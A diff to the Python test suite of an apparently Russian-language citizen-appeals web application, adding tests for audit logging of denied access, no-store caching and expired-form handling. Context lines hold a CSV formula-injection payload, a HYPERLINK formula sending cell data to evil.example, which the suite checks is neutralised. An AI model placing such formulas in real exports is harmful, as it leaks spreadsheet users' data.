@@ -7,11 +7,13 @@ import logging
 import re
 from pathlib import Path
 
+from sqlalchemy import select
 from sqlalchemy.exc import IntegrityError
 
 from reception.accounts.models import Role
 from reception.appeals import operations as appeal_ops
 from reception.appeals.models import Citizen
+from reception.audit.models import AuditEntry
 from reception.errors import handle_unexpected
 from reception.exports import safe_cell
 from reception.extensions import db
@@ -115,3 +117,44 @@ def test_the_queue_export_neutralises_a_citizens_formula(app, client, auth, make
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
     summaries = [row[5] for row in rows[1:]]
     assert summaries == ['\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")']
+
+
+def test_a_record_refused_to_a_signed_in_user_is_audited(app, client, auth, make_user):
+    from factories import make_appeal
+
+    with app.app_context():
+        appeal_id = make_appeal(branch_code="AST-01").id
+    _, email = make_user(Role.staff, "ALM-03")
+    auth.login(email)
+    assert client.get(f"/appeals/{appeal_id}").status_code == 404
+    assert client.get("/accounts/users").status_code == 403
+    assert client.get("/no-such-page").status_code == 404
+    with app.app_context():
+        denied = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "access.denied")).all()
+        assert [(e.details["status"], e.details["path"]) for e in denied] == [
+            (404, f"/appeals/{appeal_id}"),
+            (403, "/accounts/users"),
+        ]
+        assert denied[0].details["appeal_id"] == appeal_id and denied[0].user_id is not None
+
+
+def test_pages_of_a_signed_in_user_are_not_cached(app, client, auth, make_user):
+    _, email = make_user(Role.staff, "ALM-03")
+    auth.login(email)
+    for path in ("/appeals/", "/appeals/new", "/me"):
+        assert client.get(path).headers["Cache-Control"] == "no-store", path
+
+
+def test_an_expired_form_says_so_and_shows_back_what_was_typed(app, client, auth, make_user):
+    _, email = make_user(Role.staff, "ALM-03")
+    auth.login(email)
+    client.get("/appeals/new")
+    response = client.post(
+        "/appeals/new",
+        data={"csrf_token": "expired", "summary": "Нет воды третью неделю", "text": "Подробный рассказ жителя"},
+        headers={"Referer": "http://localhost/appeals/new"},
+    )
+    page = response.get_data(as_text=True)
+    assert response.status_code == 400 and "data-expired-form" in page
+    assert "Нет воды третью неделю" in page and "Подробный рассказ жителя" in page
+    assert 'href="/appeals/new"' in page
